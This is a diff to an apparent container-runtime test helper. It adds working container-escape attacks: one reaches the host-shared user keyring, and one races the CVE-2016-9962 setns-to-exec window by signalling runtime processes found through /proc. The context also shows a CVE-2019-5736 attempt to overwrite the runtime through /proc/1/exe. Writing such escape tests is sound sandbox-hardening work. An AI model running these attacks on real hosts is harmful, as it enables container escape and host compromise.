@@ -3,6 +3,7 @@
 // unless its pid namespace differs from the one the test passed in: run unsandboxed as root,
 // these attacks would hit the machine.
 //   attacker HOST_PIDNS ATTACK [ARG]
+#include <dirent.h>
 #include <fcntl.h>
 #include <linux/reboot.h>
 #include <sched.h>
@@ -43,6 +44,51 @@ int escaped(const char* what) {
 
 // Returns 0 when blocked, 1 when the attack worked.
 int attack(const std::string& name, const char* arg) {
+    if (name == "host-keyring") {  // a uid the host shares: its user keyring is the host's
+        long key = ::syscall(SYS_add_key, "user", "caisson-attack", "x", 1, -4 /* KEY_SPEC_USER_KEYRING */);
+        if (key >= 0) {
+            ::syscall(SYS_keyctl, 9 /* KEYCTL_UNLINK */, key, -4);  // the host's keyring as it was
+            return escaped("added a key to the user keyring of a uid the host shares");
+        }
+        long id = ::syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4, 0);
+        if (id >= 0) return escaped("reached the user keyring of a uid the host shares");
+        std::printf("blocked: %s\n", strerrorname_np(errno));
+        return 0;
+    }
+    if (name == "signal-exec") {  // CVE-2016-9962's window: a runtime's process between its setns and its exec
+        // arg: "STOP:MARK" or "KILL:MARK". Every process whose command line holds MARK gets the
+        // signal, as soon as it shows in this pid namespace (it is the runtime's, not exec'd
+        // yet, while it still bears the runtime's arguments); for a minute.
+        const std::string a = arg ? arg : "";
+        const int sig = a.rfind("KILL:", 0) == 0 ? SIGKILL : SIGSTOP;
+        const std::string mark = a.substr(a.find(':') + 1);
+        const pid_t self = ::getpid();
+        const time_t end = ::time(nullptr) + 60;
+        while (::time(nullptr) < end) {
+            DIR* d = ::opendir("/proc");
+            if (!d) return 3;
+            while (dirent* e = ::readdir(d)) {
+                const pid_t pid = std::atoi(e->d_name);
+                if (pid <= 1 || pid == self) continue;
+                char path[64], cmd[4096];
+                std::snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+                int fd = ::open(path, O_RDONLY | O_CLOEXEC);
+                if (fd < 0) continue;
+                ssize_t n = ::read(fd, cmd, sizeof cmd - 1);
+                ::close(fd);
+                if (n <= 0) continue;
+                for (ssize_t i = 0; i < n; ++i)
+                    if (cmd[i] == '\0') cmd[i] = ' ';
+                cmd[n] = '\0';
+                // The runtime's own words are before the mark ("caisson-oci exec ... MARK"): an
+                // exec'd program's command line is only the program's.
+                if (std::strstr(cmd, mark.c_str()) && std::strstr(cmd, "caisson-oci") && ::kill(pid, sig) == 0)
+                    std::printf("signalled %d: %s\n", pid, cmd);
+            }
+            ::closedir(d);
+        }
+        return 0;
+    }
     if (name == "proc-exe-write") {  // CVE-2019-5736: overwrite the runtime through init's exe
         int fd = ::open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
         if (fd < 0) fd = ::open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
